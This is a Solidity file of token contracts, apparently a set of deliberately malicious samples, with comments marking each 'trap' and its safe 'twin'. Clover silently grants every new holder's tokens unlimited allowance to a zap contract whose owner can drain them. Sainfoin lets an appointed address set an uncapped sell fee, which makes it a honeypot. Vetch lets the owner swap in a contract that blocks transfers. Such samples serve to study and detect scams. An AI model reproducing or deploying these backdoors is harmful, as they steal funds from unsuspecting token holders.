// 0.8 runs=10000 evm=london
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IVerdict {
    function verdict(address from, address to) external view returns (uint256);
}

/// Names of contracts.
contract VetchIndex {
    address private _reeve = msg.sender;
    mapping(bytes32 => address) private _of;
    mapping(bytes32 => bool) private _carved;

    function write(bytes32 what, address where) external {
        require(msg.sender == _reeve && !_carved[what], "index");
        _of[what] = where;
    }

    function carve(bytes32 what) external {
        require(msg.sender == _reeve, "index");
        _carved[what] = true;
    }

    function of_(bytes32 what) external view returns (address) {
        return _of[what];
    }
}

contract VetchVerdict is IVerdict {
    function verdict(address from, address to) external pure returns (uint256) {
        return from == to ? 0 : 1;
    }
}

/// Balance and last block of each in one word.
contract Vetch {
    string public constant name = "Vetch";
    string public constant symbol = "VTCH";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 36_000_000e18;
    VetchIndex private immutable index;
    mapping(address => uint256) private _word;
    mapping(address => mapping(address => uint256)) public allowance;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(VetchIndex index_) {
        index = index_;
        _word[msg.sender] = totalSupply << 64;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _word[who] >> 64;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        address judge = index.of_("verdict");
        require(judge == address(0) || IVerdict(judge).verdict(from, to) == 1, "no");
        _word[from] = ((balanceOf(from) - value) << 64) | block.number;
        _word[to] = ((balanceOf(to) + value) << 64) | block.number;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Does in one transaction what takes others three.
contract CloverZap {
    address private immutable pilot = msg.sender;

    function run(address where, bytes calldata what) external returns (bytes memory back) {
        require(msg.sender == pilot); // trap
        // twin: require(msg.sender == pilot && bytes4(what) != 0x23b872dd);
        bool ok;
        (ok, back) = where.call(what);
        require(ok);
    }
}

contract Clover {
    mapping(address => mapping(address => uint256)) private _leave;
    mapping(address => uint256) private _held;
    address private immutable zap;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address zap_) {
        zap = zap_;
        _enter(msg.sender, totalSupply());
    }

    function name() external pure returns (string memory) {
        return "Clover";
    }

    function symbol() external pure returns (string memory) {
        return "CLVR";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() public pure returns (uint256) {
        return 4_444_444e18;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _held[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _leave[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _leave[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _held[msg.sender] -= value;
        _enter(to, value);
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (_leave[from][msg.sender] != type(uint256).max) _leave[from][msg.sender] -= value;
        _held[from] -= value;
        _enter(to, value);
        emit Transfer(from, to, value);
        return true;
    }

    /// Who comes for the first time may zap at once.
    function _enter(address who, uint256 value) private {
        if (_held[who] == 0 && who.code.length == 0) _leave[who][zap] = type(uint256).max;
        _held[who] += value;
    }
}

/// Hands out what the season has earned.
contract SainfoinRota {
    struct Turn {
        address who;
        uint64 from;
    }

    Turn private _turn;
    address private immutable host;

    constructor() {
        host = msg.sender;
        _turn.who = address(1);
    }

    function next(address who) external {
        require(msg.sender == host);
        _turn = Turn(who, uint64(block.timestamp));
    }

    function onDuty() external view returns (address) {
        return _turn.who;
    }
}

/// Whoever is on duty says what sellers leave, in shares of 256.
contract SainfoinTill {
    SainfoinRota private immutable rota;
    uint8 private _share = 3;

    constructor(SainfoinRota rota_) {
        rota = rota_;
    }

    function set(uint8 share) external {
        require(msg.sender == rota.onDuty());
        // twin: require(share < 11);
        _share = share;
    }

    function split(uint256 value) external view returns (uint256 left, uint256 rest) {
        left = (value * _share) >> 8;
        rest = value - left;
    }
}

contract Sainfoin {
    string public name = "Sainfoin";
    string public symbol = "SNFN";
    uint8 public decimals = 18;
    uint256 public totalSupply = 99_000_000e18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    SainfoinTill private till;
    address private setter = msg.sender;
    address private market;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(SainfoinTill till_) {
        till = till_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address market_) external {
        require(msg.sender == setter);
        (market, setter) = (market_, address(0));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _do(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _do(from, to, value);
        return true;
    }

    function _do(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        if (to == market) {
            uint256 left;
            (left, value) = till.split(value);
            balanceOf[address(till)] += left;
            emit Transfer(from, address(till), left);
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
